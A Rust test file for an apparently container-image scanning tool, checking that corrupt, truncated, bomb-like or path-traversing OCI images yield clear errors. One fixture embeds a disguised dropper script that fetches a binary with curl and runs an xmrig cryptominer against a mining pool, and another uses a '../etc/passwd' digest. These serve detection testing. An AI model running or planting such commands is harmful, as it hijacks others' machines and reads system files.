//! Corrupt and lying images end in a clear error or a listed entry, never a
//! panic and never a silent "clean".

use std::fs;
use std::path::Path;

use minehound::{Error, LayerError, PlatformChoice, Severity};
use minehound_testdata::{Entry, gzip, sha256_digest, tar_bytes};
use serde_json::Value;

use crate::support::*;

/// Stores `bytes` as a blob of the layout and returns its digest.
fn put_blob(dir: &Path, bytes: &[u8]) -> String {
    let digest = sha256_digest(bytes);
    fs::write(dir.join("blobs/sha256").join(&digest[7..]), bytes).unwrap();
    digest
}

fn read_json(path: &Path) -> Value {
    serde_json::from_slice(&fs::read(path).unwrap()).unwrap()
}

/// The file holding layer 0 of the only image of a layout.
fn first_layer_blob(dir: &Path) -> std::path::PathBuf {
    let index = read_json(&dir.join("index.json"));
    let blob = |digest: &Value| {
        dir.join("blobs/sha256")
            .join(&digest.as_str().unwrap()[7..])
    };
    let manifest = read_json(&blob(&index["manifests"][0]["digest"]));
    blob(&manifest["layers"][0]["digest"])
}

/// Edits the only manifest of a layout (and optionally its config), keeping
/// every digest reference consistent so that only the edit is wrong.
fn edit_image(dir: &Path, edit_manifest: impl Fn(&mut Value), edit_config: impl Fn(&mut Value)) {
    let index_path = dir.join("index.json");
    let mut index = read_json(&index_path);
    let manifest_digest = index["manifests"][0]["digest"]
        .as_str()
        .unwrap()
        .to_string();
    let mut manifest = read_json(&dir.join("blobs/sha256").join(&manifest_digest[7..]));
    let config_digest = manifest["config"]["digest"].as_str().unwrap().to_string();
    let mut config = read_json(&dir.join("blobs/sha256").join(&config_digest[7..]));
    edit_config(&mut config);
    let config_bytes = serde_json::to_vec(&config).unwrap();
    manifest["config"]["digest"] = put_blob(dir, &config_bytes).into();
    manifest["config"]["size"] = config_bytes.len().into();
    edit_manifest(&mut manifest);
    let manifest_bytes = serde_json::to_vec(&manifest).unwrap();
    index["manifests"][0]["digest"] = put_blob(dir, &manifest_bytes).into();
    index["manifests"][0]["size"] = manifest_bytes.len().into();
    fs::write(index_path, serde_json::to_vec(&index).unwrap()).unwrap();
}

/// Replaces layer 0's blob with `bytes`, with a matching digest and size.
fn replace_layer(dir: &Path, bytes: &[u8]) {
    let digest = put_blob(dir, bytes);
    edit_image(
        dir,
        |m| {
            m["layers"][0]["digest"] = digest.clone().into();
            m["layers"][0]["size"] = bytes.len().into();
        },
        |_| {},
    );
}

fn layer_error(result: Result<minehound::Report, Error>) -> LayerError {
    match result {
        Err(Error::Layer { source, .. }) => source,
        other => panic!("expected a layer error, got {other:?}"),
    }
}

fn demo_layout() -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().unwrap();
    let image = one_layer(vec![Entry::file("/etc/motd", "hello\n")]);
    let target = layout(dir.path(), &image);
    (dir, target)
}

#[test]
fn a_blob_that_does_not_match_its_digest_is_an_error() {
    let (dir, target) = demo_layout();
    let layer = first_layer_blob(dir.path());
    // Same length, other content: a valid gzip of another tar.
    let mut other = gzip(&tar_bytes(&[Entry::file("/etc/motd", "HELLO\n")]));
    other.resize(fs::metadata(&layer).unwrap().len() as usize, 0);
    fs::write(&layer, other).unwrap();
    assert!(matches!(
        layer_error(scan(&target)),
        LayerError::DigestMismatch { .. }
    ));
}

#[test]
fn a_config_whose_diff_ids_lie_is_an_error() {
    let (dir, target) = demo_layout();
    edit_image(
        dir.path(),
        |_| {},
        |c| c["rootfs"]["diff_ids"][0] = format!("sha256:{}", "0".repeat(64)).into(),
    );
    assert!(matches!(
        layer_error(scan(&target)),
        LayerError::DiffIdMismatch { .. }
    ));
}

#[test]
fn a_manifest_that_lies_about_sizes_is_an_error() {
    let (dir, target) = demo_layout();
    edit_image(dir.path(), |m| m["layers"][0]["size"] = 5.into(), |_| {});
    assert!(matches!(
        layer_error(scan(&target)),
        LayerError::SizeMismatch { expected: 5, .. }
    ));

    let (dir, target) = demo_layout();
    edit_image(dir.path(), |m| m["layers"][0]["size"] = (-1).into(), |_| {});
    assert!(scan(&target).is_err());
}

#[test]
fn corrupt_gzip_and_truncated_tar_are_errors() {
    let (dir, target) = demo_layout();
    let mut blob = gzip(&tar_bytes(&[Entry::file("/a", vec![b'x'; 100_000])]));
    let middle = blob.len() / 2;
    blob[middle] ^= 0xff;
    blob[middle + 1] ^= 0xff;
    replace_layer(dir.path(), &blob);
    assert!(matches!(layer_error(scan(&target)), LayerError::Unpack(_)));

    let (dir, target) = demo_layout();
    let tar = tar_bytes(&[Entry::file("/a", vec![b'x'; 100_000])]);
    replace_layer(dir.path(), &gzip(&tar[..tar.len() / 2]));
    let err = layer_error(scan(&target));
    assert!(matches!(err, LayerError::Unpack(_)), "{err:?}");
}

#[test]
fn a_missing_blob_is_an_error() {
    let (dir, target) = demo_layout();
    fs::remove_file(first_layer_blob(dir.path())).unwrap();
    let err = format!("{:#?}", scan(&target).unwrap_err());
    assert!(err.contains("MissingBlob"), "{err}");
}

#[test]
fn digests_that_would_leave_the_layout_are_refused() {
    let (dir, target) = demo_layout();
    edit_image(
        dir.path(),
        |m| m["layers"][0]["digest"] = "sha256:../../../../etc/passwd".into(),
        |_| {},
    );
    let err = format!("{:?}", scan(&target).unwrap_err());
    assert!(err.contains("InvalidDigest"), "{err}");
}

#[test]
fn a_decompression_bomb_stops_at_the_layer_limit() {
    let dir = tempfile::tempdir().unwrap();
    let image = one_layer(vec![Entry::file("/zeros", vec![0u8; 32 << 20])]);
    assert!(
        image.layers[0].bytes.len() < 1 << 20,
        "the bomb is small on disk"
    );
    let target = layout(dir.path(), &image);
    let scanner = minehound::ScannerBuilder::new()
        .limits(minehound::Limits {
            max_layer_size: 4 << 20,
            ..Default::default()
        })
        .build()
        .unwrap();
    let err = layer_error(scan_with(&scanner, &target, PlatformChoice::Host));
    let text = format!("{err:?}");
    assert!(text.contains("LayerTooLarge"), "{text}");
}

#[test]
fn malformed_elf_files_are_scanned_not_fatal() {
    let dir = tempfile::tempdir().unwrap();
    let mut junk = b"\x7fELF\x02\x01\x01".to_vec();
    junk.extend(std::iter::repeat_n(0xffu8, 200));
    let image = one_layer(vec![
        Entry::executable("/bin/broken", junk),
        Entry::executable("/bin/short", b"\x7fELF".to_vec()),
    ]);
    let report = scan(&layout(dir.path(), &image)).unwrap();
    assert_eq!(report.stats.elf_files, 2);
    assert!(
        report.findings.iter().all(|f| f.severity <= Severity::Info),
        "{:#?}",
        report.findings
    );
    assert_accounting(&report);
}

#[test]
fn truncated_and_garbage_archive_files_are_errors_not_panics() {
    let dir = tempfile::tempdir().unwrap();
    let image = one_layer(vec![Entry::file("/a", "a")]);
    let archive = dir.path().join("oci.tar");
    minehound_testdata::write_oci_archive(fs::File::create(&archive).unwrap(), &[(&image, None)])
        .unwrap();
    let bytes = fs::read(&archive).unwrap();
    for cut in [600, bytes.len() / 2] {
        let path = dir.path().join(format!("cut-{cut}.tar"));
        fs::write(&path, &bytes[..cut]).unwrap();
        assert!(
            scan(&format!("oci-archive:{}", path.display())).is_err(),
            "cut at {cut}"
        );
    }
    let garbage = dir.path().join("garbage.tar");
    fs::write(&garbage, vec![0x5a; 4096]).unwrap();
    assert!(scan(&format!("docker-archive:{}", garbage.display())).is_err());
}

#[test]
fn disguised_scripts_and_broken_archives_still_reach_the_rules() {
    let dir = tempfile::tempdir().unwrap();
    let dropper = "curl -sL https://example.invalid/x -o /tmp/.x/xmrig\nchmod +x /tmp/.x/xmrig\n/tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1\n";
    // Control bytes and NULs after the shebang must not make it "binary".
    let mut noisy = b"#!/bin/sh\n#".to_vec();
    noisy.extend(std::iter::repeat_n(1u8, 300));
    noisy.extend(b"\0\n");
    noisy.extend(dropper.as_bytes());
    // gzip magic in front of a script: not a readable archive, still checked.
    let mut fake_gzip = vec![0x1f, 0x8b];
    fake_gzip.extend(b"\n#!/bin/sh\n");
    fake_gzip.extend(dropper.as_bytes());
    let image = one_layer(vec![
        Entry::executable("/usr/local/bin/noisy", noisy),
        Entry::file("/opt/fake.gz", fake_gzip),
    ]);
    let report = scan(&layout(dir.path(), &image)).unwrap();
    for path in ["/usr/local/bin/noisy", "/opt/fake.gz"] {
        assert!(
            findings_for(&report, path)
                .iter()
                .any(|f| f.severity >= Severity::High),
            "{path}: {:#?}",
            report.findings
        );
    }
    let skipped = report
        .skipped
        .iter()
        .find(|s| s.path == "/opt/fake.gz")
        .expect("the unreadable archive is listed");
    assert!(
        skipped.reason.contains("archive not fully read"),
        "{}",
        skipped.reason
    );
    assert_accounting(&report);
}

#[test]
fn layout_blobs_that_are_links_out_of_the_layout_are_refused() {
    let (dir, target) = demo_layout();
    let layer = first_layer_blob(dir.path());
    fs::remove_file(&layer).unwrap();
    std::os::unix::fs::symlink("/etc/hostname", &layer).unwrap();
    let err = format!("{:#?}", scan(&target).unwrap_err());
    assert!(err.contains("outside the image directory"), "{err}");
}

/// A layer inflated on a thread of its own ahead of the checks (one layer,
/// two workers) reports exactly what one thread reports; so does a layer that
/// breaks off in the middle.
#[test]
fn inflating_ahead_of_the_checks_changes_no_result() {
    let one = minehound::ScannerBuilder::new().jobs(1).build().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let mut entries: Vec<Entry> = (0..300)
        .map(|i| Entry::file(&format!("/data/{i}"), vec![i as u8; 10_000 + i * 97]))
        .collect();
    entries.extend(
        minehound_testdata::demo_image()
            .layers
            .into_iter()
            .flat_map(|layer| layer.entries)
            .filter(|entry| !matches!(entry, Entry::Whiteout { .. })),
    );
    let target = layout(dir.path(), &one_layer(entries));
    let ahead = scan(&target).unwrap();
    let inline = scan_with(&one, &target, PlatformChoice::Host).unwrap();
    assert!(ahead.fails(Severity::High), "{:#?}", ahead.findings);
    assert_eq!(ahead.findings, inline.findings);
    assert_eq!(ahead.images[0].layers, inline.images[0].layers);
    assert_eq!(ahead.stats.files, inline.stats.files);

    let (dir, target) = demo_layout();
    // 6 MiB from a blob cut in half: the break comes a few chunks into the
    // hand-over between the threads.
    let noise: Vec<u8> = (0u64..6 << 20)
        .map(|i| (i.wrapping_mul(0x9E37_79B9_7F4A_7C15) >> 56) as u8)
        .collect();
    let blob = gzip(&tar_bytes(&[Entry::file("/a", noise)]));
    replace_layer(dir.path(), &blob[..blob.len() / 2]);
    let errors = [
        scan(&target),
        scan_with(&one, &target, PlatformChoice::Host),
    ]
    .map(|result| format!("{:?}", layer_error(result)));
    assert_eq!(errors[0], errors[1]);
    assert!(errors[0].contains("Unpack"), "{}", errors[0]);
}
